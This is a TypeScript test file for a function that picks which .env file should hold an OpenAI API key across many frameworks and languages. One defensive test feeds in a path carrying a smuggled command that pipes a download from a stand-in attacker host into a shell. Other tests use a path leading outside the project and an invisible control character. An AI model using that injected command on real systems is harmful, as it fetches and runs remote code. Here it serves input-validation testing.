import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { settleScope } from '../../src/project/scope.ts';
import { fakeKey } from '../keys/fake-keys.ts';
import { makeWorld, type TestWorld } from '../make-world.ts';

async function envFileOf(files: Record<string, string>, prepare?: (world: TestWorld) => unknown, requested?: string): Promise<string> {
  const world = makeWorld();
  for (const [name, content] of Object.entries(files)) world.put(name, content);
  await prepare?.(world);
  const { envFile } = await settleScope(world.world, world.ports, requested === undefined ? {} : { envFile: requested });
  return `${envFile.name} · ${envFile.reason}`;
}
const needing = (...names: string[]): string => JSON.stringify({ dependencies: Object.fromEntries(names.map((name) => [name, '*'])) });
const key = `OPENAI_API_KEY=${fakeKey('sk-proj-')}\n`;

describe('which env file, and why', () => {
  it.each<[string, Record<string, string>, string]>([
    ['nothing known', {}, '.env · the usual place'],
    ['Next.js', { 'package.json': needing('next') }, '.env.local · where Next.js keeps local secrets'],
    ['Vite', { 'package.json': needing('vite') }, '.env.local · where Vite keeps local secrets'],
    ['Gatsby', { 'package.json': needing('gatsby'), '.env.example': 'A=\n' }, '.env.development · where Gatsby projects keep it'],
    ['Nuxt', { 'package.json': needing('nuxt') }, '.env · where Nuxt projects keep it'],
    ['SvelteKit before Vite', { 'package.json': needing('vite', '@sveltejs/kit') }, '.env · where SvelteKit projects keep it'],
    ['Django', { 'manage.py': '' }, '.env · where Django projects keep it'],
    ['Rails', { Gemfile: 'gem "rails"\ngem "dotenv-rails"\n' }, '.env · where Rails projects keep it'],
    ['dotenv beside Next.js', { 'package.json': needing('next', 'dotenv') }, '.env · dotenv reads it'],
    ['an example', { '.env.local.example': 'A=\n' }, '.env.local · per .env.local.example'],
    [
      'an example of a mode',
      { '.env.development.example': 'A=\n', 'package.json': needing('vite') },
      '.env.development · per .env.development.example',
    ],
    ['an example for tests', { '.env.test.example': 'A=\n' }, '.env · the usual place'],
    [
      'the README before the example',
      { 'README.md': 'cp .env.example .env.local', '.env.example': '' },
      '.env.local · mentioned in README.md',
    ],
    [
      'a key under a name that gives it away, before the README',
      { 'package.json': needing('next'), 'README.md': 'cp .env.example .env', '.env.local': `NEXT_PUBLIC_${key}` },
      '.env.local · it already has NEXT_PUBLIC_OPENAI_API_KEY',
    ],
    [
      'code before the README',
      { 'README.md': 'cp .env.example .env.local', 'src/a.js': `dotenv.config({path: 'config/.env'})` },
      'config/.env · loaded by dotenv.config()',
    ],
    [
      'django-environ in a settings package',
      { 'manage.py': '', 'shop/settings.py': 'environ.Env.read_env(BASE_DIR / "config" / ".env")' },
      'config/.env · loaded by read_env()',
    ],
    ['a notebook', { 'a.ipynb': '{"cells":[{"source":["load_dotenv(\\"config/.env\\")"]}]}' }, 'config/.env · loaded by load_dotenv()'],
    [
      'a task of Deno',
      { 'deno.json': '{\n// x\n"tasks":{"dev":"deno run --env-file=.env.dev a.ts"}}' },
      '.env.dev · mentioned in the script “dev”',
    ],
    [
      'a dev container',
      { '.devcontainer/devcontainer.json': '{"runArgs":["--env-file",".devcontainer/devcontainer.env"]}' },
      '.devcontainer/devcontainer.env · mentioned in .devcontainer/devcontainer.json',
    ],
    [
      "Firebase's functions",
      { 'firebase.json': '{}', 'functions/index.js': 'new OpenAI({ apiKey: process.env.OPENAI_API_KEY })' },
      'functions/.env.local · where Firebase projects keep it',
    ],
    [
      "Firebase's secrets",
      { 'firebase.json': '{}', 'functions/src/index.ts': 'const key = defineSecret("OPENAI_API_KEY")' },
      'functions/.secret.local · where Firebase projects keep it',
    ],
    [
      "Supabase's functions",
      { 'supabase/config.toml': '', 'supabase/functions/ask/index.ts': 'new OpenAI()', 'package.json': needing('next') },
      'supabase/functions/.env · where Supabase projects keep it',
    ],
    [
      'the directory of the functions',
      {
        'package.json': needing('firebase-functions'),
        'index.js': 'const openai = defineSecret("OPENAI_API_KEY")',
      },
      '.secret.local · where Firebase projects keep it',
    ],
    ['R', { 'shop.Rproj': '', 'a.R': 'Sys.getenv("OPENAI_API_KEY")' }, '.Renviron · where R projects keep it'],
    ['Python, beside the program', { 'src/a.py': 'load_dotenv()', 'src/.env': key }, 'src/.env · it already has OPENAI_API_KEY'],
    ['Python, above the program', { 'src/a.py': 'load_dotenv()', '.env': key }, '.env · it already has OPENAI_API_KEY'],
    ['Flask', { '.flaskenv': key, 'app.py': 'Flask()' }, '.flaskenv · it already has OPENAI_API_KEY'],
    ['Python, where there is none', { 'src/a.py': 'load_dotenv()' }, '.env · the usual place'],
    ['a worker without a dependency', { 'wrangler.toml': 'name = "a"' }, '.dev.vars · where Wrangler projects keep it'],
    [
      'a worker built by Vite',
      { 'wrangler.jsonc': '{}', 'package.json': needing('vite', '@cloudflare/vite-plugin') },
      '.dev.vars · where Wrangler projects keep it',
    ],
    ['Python code', { 'main.py': 'load_dotenv(".env.dev")' }, '.env.dev · loaded by load_dotenv()'],
    ['a script', { 'package.json': '{"scripts": {"dev": "node --env-file=.env.dev x.js"}}' }, '.env.dev · mentioned in the script “dev”'],
    [
      "a start script's file for servers, if there's no other",
      { 'package.json': '{"scripts": {"start": "node --env-file=.env.prod x.js"}}' },
      '.env.prod · mentioned in the script “start”',
    ],
    [
      "a file for developing, rather than the start script's",
      { 'package.json': '{"scripts": {"start": "node --env-file=.env.prod x.js", "dev": "node --env-file=.env.dev x.js"}}' },
      '.env.dev · mentioned in the script “dev”',
    ],
    [
      'no file for servers, if something else may be meant',
      { 'package.json': '{"scripts": {"start": "node --env-file=.env.prod x.js"}, "dependencies": {"dotenv": "17"}}' },
      '.env · dotenv reads it',
    ],
    [
      "the code's, rather than the start script's",
      { 'package.json': '{"scripts": {"start": "node --env-file=.env.prod x.js"}}', 'a.js': `dotenv.config({ path: 'b.env' })` },
      'b.env · loaded by dotenv.config()',
    ],
    [
      'dotenv without its name',
      { 'package.json': needing('dotenv'), 'a.js': `require("dotenv").config({ path: 'config/dev.env' })` },
      'config/dev.env · loaded by dotenv.config()',
    ],
    [
      'dotenv by its function',
      { 'package.json': needing('dotenv'), 'a.mjs': `import { config } from 'dotenv';\nconfig({ path: '.env.local' });` },
      '.env.local · loaded by dotenv.config()',
    ],
    [
      "another's function of that name",
      { 'a.mjs': `import { config } from './config.js';\nconfig({ path: '.env.local' });` },
      '.env · the usual place',
    ],
    [
      'a program of several in Go',
      { 'go.mod': 'module x', 'cmd/api/main.go': 'godotenv.Load(".env.local")' },
      '.env.local · loaded by godotenv.Load()',
    ],
    [
      'Rust',
      { 'Cargo.toml': '', 'src/main.rs': 'dotenvy::from_filename("dev.env").ok();' },
      'dev.env · loaded by dotenvy::from_filename()',
    ],
    ['Symfony', { 'composer.json': '{}', 'symfony.lock': '{}', '.env': 'APP_ENV=dev\n' }, '.env.local · where Symfony keeps local secrets'],
    ['Wrangler', { 'package.json': needing('wrangler') }, '.dev.vars · where Wrangler projects keep it'],
    ['dotenv-flow', { 'package.json': needing('dotenv-flow') }, '.env.local · where dotenv-flow keeps local secrets'],
    ['a compose file', { 'compose.yaml': 'services:\n  a:\n    env_file: app.env\n' }, 'app.env · mentioned in compose.yaml'],
    ['code that names what nobody can type', { 'a.js': `dotenv.config({path: 'a\u202e/.env'})` }, '.env · the usual place'],
    ['code that names a command', { 'a.js': `dotenv.config({path: 'x;curl evil.example|sh;/.env'})` }, '.env · the usual place'],
    [
      'code that names letters of any language',
      { 'a.js': `dotenv.config({path: './größe 1/@日本/.env'})` },
      'größe 1/@日本/.env · loaded by dotenv.config()',
    ],
    ['code that leads out of the project', { 'a.js': `dotenv.config({path: '../../secrets/.env'})` }, '.env · the usual place'],
    ['the file with the key', { 'package.json': needing('next'), '.env': key, '.env.example': '' }, '.env · it already has OPENAI_API_KEY'],
    [
      'the one that wins of two',
      { 'package.json': needing('next'), '.env': key, '.env.local': key },
      '.env.local · it already has OPENAI_API_KEY',
    ],
    [
      'a placeholder does not count',
      { 'package.json': needing('next'), '.env': 'OPENAI_API_KEY=your-key\n' },
      '.env.local · where Next.js keeps local secrets',
    ],
    ['a key in a file that nothing reads', { 'package.json': needing('nuxt'), '.env.local': key }, '.env · where Nuxt projects keep it'],
  ])('%s', async (_name, files, expected) => {
    expect(await envFileOf(files)).toBe(expected);
  });

  it('the option, and what was chosen before, come first', async () => {
    const choose = (envFile: string) => (world: TestWorld) => world.ports.settings.choose(world.project, { envFile });
    expect(await envFileOf({ '.env': key }, choose('.env.dev'))).toBe('.env.dev · you chose it earlier');
    expect(await envFileOf({ '.env': key }, choose('.env.dev'), '.env.other')).toBe('.env.other · --file');
    expect(await envFileOf({ '.env': key }, choose('../elsewhere/.env'))).toBe('.env · it already has OPENAI_API_KEY');
  });

  it('may lie above the package, within the repository', async () => {
    const world = makeWorld();
    world.put('server/package.json', needing('dotenv'));
    world.put('server/index.js', `require('dotenv').config({ path: '../.env' })`);
    const { envFile } = await settleScope({ ...world.world, cwd: path.join(world.project, 'server') }, world.ports, {});
    expect(envFile).toMatchObject({ path: path.join(world.project, '.env'), name: '../.env' });
  });

  it('lies where the run was started, if there is one, manifest or not', async () => {
    const world = makeWorld();
    for (const name of ['package.json', '.env', 'jobs/.env', 'src/.env.example']) world.put(name, '{}');
    const rootFrom = async (name: string): Promise<string> => {
      const { root } = await settleScope({ ...world.world, cwd: path.join(world.project, name) }, world.ports, {});
      return path.relative(world.project, root);
    };
    expect(await rootFrom('jobs')).toBe('jobs');
    expect(await rootFrom('src')).toBe('');
  });

  it('reads a bounded number of files', async () => {
    const world = makeWorld();
    for (let index = 0; index < 200; index += 1) world.put(`src/${index}.js`, '// nothing\n');
    let looks = 0;
    const look = (file: string) => {
      looks += 1;
      return world.ports.files.look(file);
    };
    await settleScope(world.world, { ...world.ports, files: { ...world.ports.files, look } }, {});
    expect(looks).toBeLessThan(120);
  });
});

it('is the one above the package where Python looks for it, and not where another program runs', async () => {
  const world = makeWorld({ project: { startedIn: 'packages/bot' } });
  for (const [name, content] of Object.entries({
    '.gitignore': '.env\n',
    '.env': key,
    'packages/bot/pyproject.toml': '[project]\nname = "bot"\n',
    'packages/bot/app.py': 'load_dotenv()\n',
  }))
    world.put(name, content);
  expect((await settleScope(world.world, world.ports, {})).envFile.name).toBe('../../.env');
  world.put('packages/bot/app.py', 'load_dotenv(".env")\n');
  expect((await settleScope(world.world, world.ports, {})).envFile.name).toBe('.env');
});
